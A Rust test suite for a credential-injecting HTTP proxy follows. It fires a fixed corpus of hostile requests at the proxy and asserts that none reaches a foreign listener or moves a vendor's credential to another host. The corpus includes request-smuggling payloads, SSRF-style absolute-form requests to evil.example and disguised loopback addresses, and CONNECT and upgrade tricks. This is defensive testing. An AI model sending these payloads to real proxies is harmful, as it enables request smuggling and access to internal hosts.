//! Adversarial cases: data plane.
//!
//! Hostile and broken clients on raw sockets, against the proxy pointed at a mock vendor and,
//! for every other address it could be talked into dialing, a counting listener. Invariants:
//! no connection ever reaches a non-vendor listener; a credential only ever reaches its own
//! vendor's host; the process stays alive and its memory bounded; idle connections cannot
//! starve real requests. Bounded: a fixed corpus sent concurrently, every wait with a deadline.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::support::tenants::*;
use crate::support::{MockResponse, MockVendor, TestCa, TestProxy};

const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// A TCP listener that accepts and counts connections, then closes them: stands for every
/// host that is not a vendor.
struct CountingListener {
    port: u16,
    accepted: Arc<AtomicUsize>,
}

impl CountingListener {
    async fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let count = accepted.clone();
        tokio::spawn(async move {
            while let Ok((conn, _)) = listener.accept().await {
                count.fetch_add(1, Ordering::SeqCst);
                drop(conn);
            }
        });
        Self { port, accepted }
    }
}

/// Sends `bytes` on a new connection and reads until the proxy closes it or `within`
/// passes; returns what came back.
async fn exchange(addr: std::net::SocketAddr, bytes: Vec<u8>, within: Duration) -> Vec<u8> {
    let mut got = Vec::new();
    let Ok(mut s) = TcpStream::connect(addr).await else {
        return got;
    };
    let _ = tokio::time::timeout(within, async {
        if s.write_all(&bytes).await.is_err() {
            return;
        }
        let mut buf = [0u8; 8192];
        loop {
            match s.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(n) => got.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await;
    got
}

/// Resident memory of this process in KiB (Linux), for the "memory bounded" invariant.
fn rss_kib() -> Option<u64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
    line.split_whitespace().nth(1)?.parse().ok()
}

/// The proxy under attack: every vendor host dialed at `mock`, every other host:port (should
/// the proxy ever dial one) at `counting`.
async fn target(
    ca: &TestCa,
    mock: &MockVendor,
    counting: &CountingListener,
    configure: impl FnOnce(&mut sidekey::proxy::ProxyConfig),
) -> TestProxy {
    let catch_all = format!("::127.0.0.1:{}", counting.port).parse().unwrap();
    TestProxy::builder()
        .tenant(acme())
        .tenant(bare())
        .trust(ca)
        .route_to(mock)
        .upstream(|u| u.connect_to.push(catch_all))
        .config(configure)
        .start()
        .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_connections_beyond_the_cap_do_not_starve_real_requests() {
    const CAP: usize = 8;
    const HEADER_TIMEOUT: Duration = Duration::from_millis(500);
    let ca = TestCa::new("ca");
    let mock = MockVendor::builder(&ca)
        .respond(|_| MockResponse::ok("ok"))
        .start()
        .await;
    let counting = CountingListener::start().await;
    let proxy = target(&ca, &mock, &counting, |c| {
        c.max_connections = CAP;
        c.header_read_timeout = HEADER_TIMEOUT;
    })
    .await;
    // Half again the cap, in every shape of "not finished": nothing, one byte of the h2
    // preface, all but its last byte, a request head cut off, an HTTP/2 connection that
    // settles its SETTINGS and asks nothing.
    let h2_idle = [H2_PREFACE, &[0, 0, 0, 4, 0, 0, 0, 0, 0]].concat();
    let shapes: [&[u8]; 5] = [
        b"",
        b"P",
        &H2_PREFACE[..23],
        b"GET /miradore/api/v2/Dev",
        &h2_idle,
    ];
    let mut idle = Vec::new();
    for i in 0..CAP + CAP / 2 {
        let mut s = TcpStream::connect(proxy.addr).await.unwrap();
        s.write_all(shapes[i % shapes.len()]).await.unwrap();
        idle.push(s);
    }
    // The real request queues behind them in the backlog and is served once the first batch
    // hits the deadline: within two header timeouts (plus scheduling slack), not never.
    let started = Instant::now();
    let resp = tokio::time::timeout(
        HEADER_TIMEOUT * 2 + Duration::from_secs(2),
        proxy
            .request(reqwest::Method::GET, "/miradore/api/v2/Device", "acme")
            .send(),
    )
    .await
    .expect("a real request was starved by idle connections")
    .unwrap();
    assert_eq!(resp.status(), 200);
    assert!(started.elapsed() < HEADER_TIMEOUT * 2 + Duration::from_secs(2));
    // And every idle connection was closed by the proxy (after whatever it had to say, such
    // as HTTP/2 SETTINGS and GOAWAY), none kept.
    for mut s in idle {
        let closed = tokio::time::timeout(Duration::from_secs(5), async {
            let mut buf = [0u8; 1024];
            while let Ok(n) = s.read(&mut buf).await {
                if n == 0 {
                    break;
                }
            }
        })
        .await;
        assert!(closed.is_ok(), "an idle connection was kept");
    }
    assert_eq!(counting.accepted.load(Ordering::SeqCst), 0);
}

/// Hostile request lines, headers and framings. `{port}` is the counting listener's port.
const CORPUS: &[&str] = &[
    // Smuggling: CL and TE together, in both orders, with a second request hidden after.
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{port}/miradore/x HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nx-sidekey-tenant: acme\r\n\r\n",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nTransfer-Encoding: chunked\r\nContent-Length: 40\r\n\r\n0\r\n\r\nGET /m3ter/organizations/x HTTP/1.1\r\nHost: x\r\n\r\n",
    "POST /mailkit/json.fcgi HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nContent-Length: 0\r\nContent-Length: 50\r\n\r\n{\"function\":\"f\",\"id\":\"1\",\"md5\":\"2\",\"padding\":1}",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nX-Pad: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nContent-Length: +4\r\n\r\nabcd",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nContent-Length: -1\r\n\r\n",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nContent-Length: 0x4\r\n\r\nabcd",
    "POST /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nTransfer-Encoding: chunked\r\n\r\n5;ext=\"a\r\nb\"\r\nhello\r\n0\r\n\r\n",
    // Absolute-form to foreign hosts, by name, literal, odd encodings and ports.
    "GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://evil.example/miradore/api/v2/Device HTTP/1.1\r\nHost: evil.example\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://online.miradore.com:{port}/api/v2/Device HTTP/1.1\r\nHost: online.miradore.com\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://[::1]:{port}/miradore/api/v2/Device HTTP/1.1\r\nHost: [::1]\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://2130706433:{port}/miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://0x7f000001:{port}/ HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://online.miradore.com./api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://api.m3ter.com.evil.example/organizations/x HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://evilonline.miradore.com/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET https://online.miradore.com/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET ftp://online.miradore.com/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    // Userinfo that tries to name a host.
    "GET http://online.miradore.com@127.0.0.1:{port}/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://127.0.0.1:{port}@online.miradore.com/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET http://acme:x@evil.example/api/v2/Device HTTP/1.1\r\nHost: x\r\n\r\n",
    // Origin form with a Host naming a foreign listener (Host is not where sidekey dials).
    "GET /miradore/api/v2/Device HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nx-sidekey-tenant: acme\r\n\r\n",
    // A legitimate absolute-form request whose Host header disagrees.
    "GET http://online.miradore.com/api/v2/Device HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nProxy-Authorization: Basic YWNtZTp4\r\n\r\n",
    // Credentials of one vendor asked for on another vendor's host.
    "GET http://api.mailkit.eu/miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "POST http://online.miradore.com/json.fcgi HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nContent-Length: 2\r\n\r\n{}",
    // Upgrade games: h2c upgrade, websocket, CONNECT.
    "GET /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n",
    "GET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    "CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nx-sidekey-tenant: acme\r\n\r\n",
    "CONNECT online.miradore.com:443 HTTP/1.1\r\nHost: online.miradore.com:443\r\nx-sidekey-tenant: acme\r\n\r\n",
    // Request lines hyper must refuse or that name nothing.
    "OPTIONS * HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "GET /miradore/api/v2/Device\r\n\r\n",
    "GET  /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nBad\0Header: 1\r\n\r\n",
    "GET /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nNo-Colon\r\n\r\n",
    "GET /miradore/api/v2/Device HTTP/9.9\r\nHost: x\r\nx-sidekey-tenant: acme\r\n\r\n",
    "\r\n\r\n\r\nGET http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\n\r\n",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_requests_never_reach_a_foreign_listener_nor_move_a_credential() {
    let ca = TestCa::new("ca");
    let mock = MockVendor::builder(&ca)
        .respond(|_| MockResponse::ok("ok"))
        .start()
        .await;
    let counting = CountingListener::start().await;
    let proxy = target(&ca, &mock, &counting, |c| {
        c.header_read_timeout = Duration::from_secs(1);
        c.max_header_bytes = 16 * 1024;
    })
    .await;
    let rss_before = rss_kib();

    let port = counting.port.to_string();
    let mut cases: Vec<Vec<u8>> = CORPUS
        .iter()
        .map(|c| c.replace("{port}", &port).into_bytes())
        .collect();
    // Oversized heads and header floods.
    cases.push(
        format!(
            "GET /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\nX-Big: {}\r\n\r\n",
            "a".repeat(64 * 1024)
        )
        .into_bytes(),
    );
    cases.push(
        format!(
            "GET /miradore/api/v2/Device HTTP/1.1\r\nHost: x\r\nx-sidekey-tenant: acme\r\n{}\r\n",
            "X-H: 1\r\n".repeat(5000)
        )
        .into_bytes(),
    );
    // HTTP/2 prior knowledge followed by garbage frames.
    let mut h2 = H2_PREFACE.to_vec();
    h2.extend_from_slice(&[0, 0, 4, 0xff, 0xff, 0, 0, 0, 1, 1, 2, 3, 4]);
    cases.push(h2);

    let proxy_addr = proxy.addr;
    let mut running = JoinSet::new();
    for case in cases {
        // HTTP/1 connections close at the 1 s keep-alive deadline; the HTTP/2 one stays
        // while its PINGs are due, so the exchange deadline bounds it.
        running.spawn(exchange(proxy_addr, case, Duration::from_secs(3)));
    }
    let deadline = tokio::time::timeout(Duration::from_secs(30), async {
        while running.join_next().await.is_some() {}
    });
    deadline.await.expect("the corpus finished within 30 s");

    // No connection to anything but the vendor mock.
    assert_eq!(
        counting.accepted.load(Ordering::SeqCst),
        0,
        "a hostile request made sidekey dial a non-vendor address"
    );
    // Every credential the mock saw went to its own vendor's host.
    for r in mock.requests() {
        let host = r.host().unwrap_or("").to_ascii_lowercase();
        let seen = format!(
            "{:?} {:?} {}",
            r.uri,
            r.headers,
            String::from_utf8_lossy(&r.body)
        );
        let miradore = host == "online.miradore.com" || host.ends_with(".online.miradore.com");
        if seen.contains(MIRADORE_KEY) || seen.contains(MIRADORE_KEY_ENCODED) {
            assert!(miradore, "Miradore key sent to {host}: {r:#?}");
        }
        if seen.contains(MAILKIT_MD5) {
            assert_eq!(host, "api.mailkit.eu", "Mailkit MD5 sent to {host}: {r:#?}");
        }
        if seen.contains("test-token") {
            assert!(
                host.ends_with(".m3ter.com"),
                "m3ter token sent to {host}: {r:#?}"
            );
        }
    }
    // Alive and still serving.
    let resp = proxy
        .request(reqwest::Method::GET, "/miradore/api/v2/Device", "acme")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    // Memory bounded: the corpus costs a few MiB; the bound leaves room for tests that
    // share this process under `cargo test`.
    if let (Some(before), Some(after)) = (rss_before, rss_kib()) {
        assert!(
            after.saturating_sub(before) < 128 * 1024,
            "RSS grew from {before} KiB to {after} KiB"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_uploads_never_hold_more_than_the_body_budget() {
    // The adversarial run's 32 concurrent 15 MiB Mailkit uploads took RSS to 917 MiB. Scaled
    // down: 16 uploads of 200 KiB against a 1 MiB budget, all held at the vendor at once.
    const UPLOADS: usize = 16;
    const BODY: usize = 200 * 1024;
    const BUDGET: usize = 1024 * 1024;
    let gate = Arc::new(tokio::sync::Notify::new());
    let g = gate.clone();
    let ca = TestCa::new("ca");
    let mock = MockVendor::builder(&ca)
        .respond(move |_| MockResponse::held_until(g.clone(), "{}"))
        .start()
        .await;
    let counting = CountingListener::start().await;
    let proxy = target(&ca, &mock, &counting, |c| c.body_memory_budget = BUDGET).await;
    let body = format!(
        "{{\"function\":\"f\",\"pad\":\"{}\"}}",
        "x".repeat(BODY - 30)
    );
    let refused = Arc::new(AtomicUsize::new(0));
    let mut uploads = JoinSet::new();
    for _ in 0..UPLOADS {
        let req = proxy
            .request(reqwest::Method::POST, "/mailkit/json.fcgi", "acme")
            .body(body.clone());
        let refused = refused.clone();
        uploads.spawn(async move {
            let resp = req.send().await.unwrap();
            if resp.status() == 503 {
                assert_eq!(resp.headers()["x-sidekey-error"], "body_budget_exhausted");
                refused.fetch_add(1, Ordering::SeqCst);
            }
            resp.status().as_u16()
        });
    }
    // Every upload is either refused or held at the vendor.
    let deadline = Instant::now() + Duration::from_secs(20);
    while mock.requests().len() + refused.load(Ordering::SeqCst) < UPLOADS {
        assert!(
            Instant::now() < deadline,
            "uploads neither held nor refused"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let held = mock.requests().len();
    assert!(held >= 1, "the budget admits at least one body");
    assert!(
        held * BODY <= BUDGET,
        "{held} bodies of {BODY} bytes held at once past a {BUDGET}-byte budget"
    );
    // Released, the held ones complete; nothing else happened meanwhile.
    let mut statuses = Vec::new();
    let finished = tokio::time::timeout(Duration::from_secs(20), async {
        loop {
            gate.notify_one();
            tokio::select! {
                done = uploads.join_next() => match done {
                    Some(status) => statuses.push(status.unwrap()),
                    None => return,
                },
                () = tokio::time::sleep(Duration::from_millis(10)) => {}
            }
        }
    })
    .await;
    assert!(finished.is_ok(), "held uploads did not complete");
    assert_eq!(statuses.iter().filter(|s| **s == 200).count(), held);
    assert_eq!(
        statuses.iter().filter(|s| **s == 503).count(),
        UPLOADS - held
    );
    assert_eq!(counting.accepted.load(Ordering::SeqCst), 0);
}
